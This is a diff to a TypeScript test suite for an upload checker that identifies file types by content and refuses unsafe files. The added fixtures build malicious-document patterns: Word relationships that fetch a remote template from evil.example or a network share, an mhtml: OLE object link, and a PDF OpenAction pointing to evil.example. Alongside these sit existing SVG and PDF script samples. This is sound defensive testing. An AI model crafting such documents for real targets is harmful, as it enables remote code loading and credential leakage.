@@ -20,6 +20,11 @@ async function check(name: string, content: Buffer | string, accept: readonly st
 
 const sketch = Buffer.concat([Buffer.from([0xff, 0xfe, 0xff, 0x0e]), Buffer.from('SketchUp Model', 'utf16le'), Buffer.alloc(40)]);
 const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
+const relating = (type: string, target: string) =>
+  wordDocument({
+    name: 'word/_rels/settings.xml.rels',
+    content: `<Relationships><Relationship Id="r1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  });
 const zeros = Buffer.alloc(30_000_000);
 
 it.each([
@@ -31,6 +36,13 @@ it.each([
   ['model.ifc', "ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('x'),'2;1');", 'application/x-step'],
   ['bank.skp', sketch, 'application/vnd.sketchup.skp'],
   ['cv.docx', wordDocument(), expect.stringContaining('wordprocessingml')],
+  [
+    'sjabloon.docx',
+    relating('attachedTemplate', 'file:///C:\\Users\\eva\\Normal.dotm'),
+    expect.stringContaining('wordprocessingml'),
+  ],
+  ['link.docx', relating('hyperlink', 'https://www.example.org'), expect.stringContaining('wordprocessingml')],
+  ['blad.pdf', pdf('/OpenAction [3 0 R /Fit] /URI (https://www.example.org)'), 'application/pdf'],
   ['brief.odt', openDocument(), 'application/vnd.oasis.opendocument.text'],
 ])('FRM-10 %s is told by its content', async (name, content, type) => expect(await check(name, content)).toEqual(type));
 
@@ -54,6 +66,10 @@ it.each([
   ['macros of OpenDocument', 'cv.odt', openDocument({ name: 'Basic/Standard/Module1.xml', content: 'x' }), 'fileUnsafe'],
   ['a PDF with a script', 'cv.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'fileUnsafe'],
   ['a PDF with a script in codes', 'cv.pdf', pdf('/OpenAction << /S /J#61vaScript >>'), 'fileUnsafe'],
+  ['a document that fetches a template', 'cv.docx', relating('attachedTemplate', 'https://evil.example/x.dotm'), 'fileUnsafe'],
+  ['a document that fetches from a share', 'cv.docx', relating('attachedTemplate', 'file:///\\\\evil\\x.dotm'), 'fileUnsafe'],
+  ['a document that fetches an object', 'cv.docx', relating('oleObject', 'mhtml:https://evil.example!x'), 'fileUnsafe'],
+  ['a PDF that goes to an address', 'cv.pdf', pdf('/OpenAction << /S /URI /URI (https://evil.example) >>'), 'fileUnsafe'],
   ['a PDF with a file in it', 'cv.pdf', pdf('/Type /EmbeddedFile'), 'fileUnsafe'],
 ])('FRM-10 refuses %s', async (_, name, content, problem) => expect(await check(name, content)).toBe(problem));
 
